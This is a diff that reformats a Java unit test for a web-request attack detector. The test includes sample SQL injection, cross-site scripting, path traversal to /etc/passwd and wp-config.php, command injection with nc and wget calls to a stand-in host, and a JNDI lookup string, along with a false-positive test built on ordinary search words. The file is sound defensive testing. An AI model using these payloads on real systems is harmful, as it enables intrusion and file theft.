@@ -34,7 +34,9 @@ class AttackScorerTest {
                 "id=3+and+extractvalue(1,concat(0x7e,version()))",
             })
     void injectionsIntoSql(String query) {
-        assertThat(scorer.score("/item", query).has(AttackClass.SQL_INJECTION)).as(query).isTrue();
+        assertThat(scorer.score("/item", query).has(AttackClass.SQL_INJECTION))
+                .as(query)
+                .isTrue();
     }
 
     @ParameterizedTest
@@ -46,34 +48,112 @@ class AttackScorerTest {
                 "q=%22%3E%3Csvg/onload=fetch(1)%3E",
             })
     void scripts(String query) {
-        assertThat(scorer.score("/item", query).has(AttackClass.CROSS_SITE_SCRIPTING)).as(query).isTrue();
+        assertThat(scorer.score("/item", query).has(AttackClass.CROSS_SITE_SCRIPTING))
+                .as(query)
+                .isTrue();
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"f=../../../../etc/passwd", "f=..%2f..%2fwp-config.php", "f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "f=php://filter/x"})
+    @ValueSource(
+            strings = {
+                "f=../../../../etc/passwd",
+                "f=..%2f..%2fwp-config.php",
+                "f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
+                "f=php://filter/x"
+            })
     void traversals(String query) {
-        assertThat(scorer.score("/item", query).has(AttackClass.PATH_TRAVERSAL)).as(query).isTrue();
+        assertThat(scorer.score("/item", query).has(AttackClass.PATH_TRAVERSAL))
+                .as(query)
+                .isTrue();
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"h=;cat+/tmp/x", "h=$(id)", "h=`whoami`", "h=1|nc+192.0.2.1+99", "h=%26%26+wget+http://192.0.2.1/x", "x=${jndi:ldap://a/b}"})
+    @ValueSource(
+            strings = {
+                "h=;cat+/tmp/x",
+                "h=$(id)",
+                "h=`whoami`",
+                "h=1|nc+192.0.2.1+99",
+                "h=%26%26+wget+http://192.0.2.1/x",
+                "x=${jndi:ldap://a/b}"
+            })
     void commands(String query) {
-        assertThat(scorer.score("/item", query).has(AttackClass.COMMAND_INJECTION)).as(query).isTrue();
+        assertThat(scorer.score("/item", query).has(AttackClass.COMMAND_INJECTION))
+                .as(query)
+                .isTrue();
     }
 
     @Test
     void traversalInThePath() {
-        assertThat(scorer.score("/static/..%2f..%2f..%2fetc/passwd", null).has(AttackClass.PATH_TRAVERSAL)).isTrue();
+        assertThat(scorer.score("/static/..%2f..%2f..%2fetc/passwd", null).has(AttackClass.PATH_TRAVERSAL))
+                .isTrue();
     }
 
     /** What people search and programs ask: sentences with quotes and SQL's words, JSON, dates, prices, names, addresses, tokens. */
     @Test
     void ordinaryQueriesAreNone() {
         String[] words = {
-            "select", "union", "order", "where", "from", "having", "group", "update", "drop", "table", "and", "or", "not", "like", "in", "between",
-            "blue", "shoes", "hotel", "cheap", "flights", "O'Brien", "rock 'n' roll", "12\" vinyl", "women's", "5' 11\"", "C++", "50%", "a&b", "R&D", "24/7",
-            "iPhone 15", "case", "when", "then", "exec", "set", "values", "count", "sum", "left", "right", "night", "before", "the", "of", "a", "credit union",
-            "student union", "select committee", "fish & chips", "e-mail", "1990", "2026-11-28", "no. 7", "(used)", "size: M", "wi-fi", "4x4", "#1", "@home"
+            "select",
+            "union",
+            "order",
+            "where",
+            "from",
+            "having",
+            "group",
+            "update",
+            "drop",
+            "table",
+            "and",
+            "or",
+            "not",
+            "like",
+            "in",
+            "between",
+            "blue",
+            "shoes",
+            "hotel",
+            "cheap",
+            "flights",
+            "O'Brien",
+            "rock 'n' roll",
+            "12\" vinyl",
+            "women's",
+            "5' 11\"",
+            "C++",
+            "50%",
+            "a&b",
+            "R&D",
+            "24/7",
+            "iPhone 15",
+            "case",
+            "when",
+            "then",
+            "exec",
+            "set",
+            "values",
+            "count",
+            "sum",
+            "left",
+            "right",
+            "night",
+            "before",
+            "the",
+            "of",
+            "a",
+            "credit union",
+            "student union",
+            "select committee",
+            "fish & chips",
+            "e-mail",
+            "1990",
+            "2026-11-28",
+            "no. 7",
+            "(used)",
+            "size: M",
+            "wi-fi",
+            "4x4",
+            "#1",
+            "@home"
         };
         Random random = new Random(7);
         List<String> found = new ArrayList<>();
@@ -85,15 +165,23 @@ class AttackScorerTest {
             }
             String value = random.nextInt(10) == 0 ? '"' + text.toString().replace("\"", "") + '"' : text.toString();
             String query = switch (random.nextInt(4)) {
-                case 0 -> "page=" + random.nextInt(99) + "&sort=price_asc&q=" + java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
-                case 1 -> "filter=" + java.net.URLEncoder.encode(
-                        "{\"name\":\"" + value.replace("\"", "\\\"") + "\",\"max\":" + random.nextInt(999) + "}", java.nio.charset.StandardCharsets.UTF_8);
+                case 0 ->
+                    "page=" + random.nextInt(99) + "&sort=price_asc&q="
+                            + java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
+                case 1 ->
+                    "filter="
+                            + java.net.URLEncoder.encode(
+                                    "{\"name\":\"" + value.replace("\"", "\\\"") + "\",\"max\":" + random.nextInt(999)
+                                            + "}",
+                                    java.nio.charset.StandardCharsets.UTF_8);
                 default -> "q=" + java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
             };
             if (scorer.score("/search", query).any()) {
                 found.add(query);
             }
         }
-        assertThat(found.size()).as("found in %d: %s", queries, found.stream().limit(20).toList()).isLessThanOrEqualTo(queries / 2000);
+        assertThat(found.size())
+                .as("found in %d: %s", queries, found.stream().limit(20).toList())
+                .isLessThanOrEqualTo(queries / 2000);
     }
 }
